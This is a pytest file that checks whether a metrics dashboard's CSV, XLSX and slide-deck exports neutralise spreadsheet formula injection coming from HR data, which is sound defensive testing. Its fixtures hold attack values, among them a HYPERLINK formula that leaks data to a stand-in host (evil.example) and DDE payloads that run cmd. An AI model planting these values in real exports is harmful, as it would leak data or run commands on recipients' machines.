"""Formula injection: texts that a spreadsheet would run (=, +, -, @, tab, CR) leave every export as text.

An org unit, location or title is whatever the HR system or the LMS holds; a value such as
`=HYPERLINK("http://evil.example/?"&A1,"Details")` must reach a CSV as `'=HYPERLINK(...)`, while genuine
numbers, negative ones included, stay numbers.
"""

from __future__ import annotations

import csv
import io
import shutil
from datetime import date

import openpyxl
import polars as pl
import pytest

from connectors import __main__ as connectors_cli
from dashboard.components import csv_bytes, rows_frame
from data.db import make_engine
from data.settings import Settings
from metrics import __main__ as metrics_cli
from metrics.compute import compute
from metrics.export_safety import FORMULA_START, safe_cell, safe_row
from metrics.frames import load_frames
from metrics.overview import Metrics
from metrics.periods import Period
from tests.conftest import COMPANY

LINK = '=HYPERLINK("http://evil.example/?leak","Details")'
DDE = "+cmd|' /C calc'!A0"
ATTACKS = [LINK, DDE, "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1",
           "\uff1d1+1"]


@pytest.mark.parametrize("value", ATTACKS)
def test_texts_that_start_a_formula_get_an_apostrophe(value):
    assert safe_cell(value) == "'" + value
    assert value.startswith(FORMULA_START)


@pytest.mark.parametrize("value", [-3, -2.5, 0, 12, True, None, date(2026, 1, 31), "Technik", "", " =1", "'=1",
                                   "#HR", "4 %"])
def test_numbers_dates_and_plain_texts_stay_as_they_are(value):
    assert safe_cell(value) == value and safe_cell(value) is value


def test_dashboard_csv_keeps_negative_numbers_numbers_and_formulas_text():
    frame = pl.DataFrame({"group": [LINK, DDE, "Service"], "change": [-3.5, 2.0, -0.25], "persons": [-2, 10, 0]})
    rows = list(csv.reader(io.StringIO(csv_bytes(frame, None, ["P3"]).decode("utf-8-sig"))))
    assert rows == [["group", "change", "persons"], ["'" + LINK, "-3.5", "-2"], ["'" + DDE, "2.0", "10"],
                    ["Service", "-0.25", "0"]]


def test_an_xlsx_export_through_safe_cell_holds_text_not_formulas(tmp_path):
    """openpyxl stores a text that starts with '=' as a formula; through safe_cell it stays a text."""
    book = openpyxl.Workbook()
    book.active.append(safe_row([LINK, -3, 2.5, "Service"]))
    book.save(tmp_path / "export.xlsx")
    cells = next(openpyxl.load_workbook(tmp_path / "export.xlsx").active.iter_rows())
    assert [c.data_type for c in cells] == ["s", "n", "n", "s"]
    assert cells[0].value == "'" + LINK and cells[1].value == -3
    unsafe = openpyxl.Workbook()
    unsafe.active.append([LINK])
    assert unsafe.active["A1"].data_type == "f"  # why the rule exists


@pytest.fixture
def formula_company(tmp_path, monkeypatch):
    """The five-person company whose locations and org unit names are formulas, synced."""
    for name in ("sources.toml", "statements.ndjson"):
        shutil.copy(COMPANY / name, tmp_path / name)
    for name, column, values in (("mitarbeiter.csv", "Standort", {"Bonn": LINK, "Budapest": DDE}),
                                 ("organisation.csv", "Bezeichnung", {"Technik": LINK, "Service": "@SUM(1)"})):
        rows = list(csv.reader(io.StringIO((COMPANY / name).read_text(encoding="utf-8-sig")), delimiter=";"))
        at = rows[0].index(column)
        for row in rows[1:]:
            row[at] = values.get(row[at], row[at])
        out = io.StringIO()
        csv.writer(out, delimiter=";", lineterminator="\r\n").writerows(rows)
        (tmp_path / name).write_text(out.getvalue(), encoding="utf-8-sig")
    db_url = f"sqlite:///{tmp_path / 'w.db'}"
    monkeypatch.setenv("DIRIGENT_DB_URL", db_url)
    monkeypatch.setenv("DIRIGENT_MIN_GROUP_SIZE", "5")
    assert connectors_cli.main(["sync", "--config", str(tmp_path / "sources.toml")]) == 0
    return db_url


def test_the_metrics_command_csv_neutralises_formulas_from_hr(formula_company, capsys):
    capsys.readouterr()
    assert metrics_cli.main(["show", "P1,P2", "--period", "2026-01", "--by", "location", "--format", "csv"]) == 0
    rows = list(csv.reader(io.StringIO(capsys.readouterr().out)))
    groups = {row[3] for row in rows[1:]}
    assert "'" + LINK in groups, groups
    assert not any(cell.startswith(FORMULA_START) for row in rows for cell in row)
    assert all(row[4] == "" or row[4].lstrip("-").replace(".", "", 1).isdigit() for row in rows[1:])


def test_the_dashboards_csv_of_org_units_neutralises_their_names(formula_company):
    """As a page draws it: groups by org unit, labelled with the unit's name, exported through csv_bytes."""
    engine = make_engine(formula_company)
    model = Metrics(load_frames(engine), Settings.from_env())
    engine.dispose()
    names = dict(model.frames.org_units.select("org_unit_id", "name").iter_rows())
    assert LINK in names.values()
    result = compute(model, "P1", Period.month(2026, 1), "org_unit")
    frame = rows_frame(result).with_columns(pl.col("group").replace_strict(names, default=pl.col("group")))
    text = csv_bytes(frame, None, ["P1"]).decode("utf-8-sig")
    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
    assert "'" + LINK in cells or "'@SUM(1)" in cells, text
    assert not any(cell.startswith(FORMULA_START) for cell in cells)


def test_the_decks_chart_workbooks_hold_no_formula_from_a_name(demo_metrics):
    from dataclasses import replace

    from pptx import Presentation

    from dashboard.report import deck_bytes

    frames = demo_metrics.frames
    named = frames.org_units.with_columns(pl.lit(LINK).add(pl.col("org_unit_id")).alias("name"))
    model = Metrics(replace(frames, org_units=named), demo_metrics.settings)
    last = model.data_range()[1]
    quarter = Period.quarter(last.year, (last.month - 1) // 3 + 1).previous()
    deck = Presentation(io.BytesIO(deck_bytes(model, quarter, "pptx", "en")))
    charts = [shape.chart for slide in deck.slides for shape in slide.shapes if shape.has_chart]
    assert charts
    categories = [c for chart in charts for c in chart.plots[0].categories]
    assert any(LINK in str(c) for c in categories), categories
    for chart in charts:
        book = openpyxl.load_workbook(io.BytesIO(chart.part.chart_workbook.xlsx_part.blob))
        formulas = [cell.value for row in book.active.iter_rows() for cell in row if cell.data_type == "f"]
        assert formulas == []
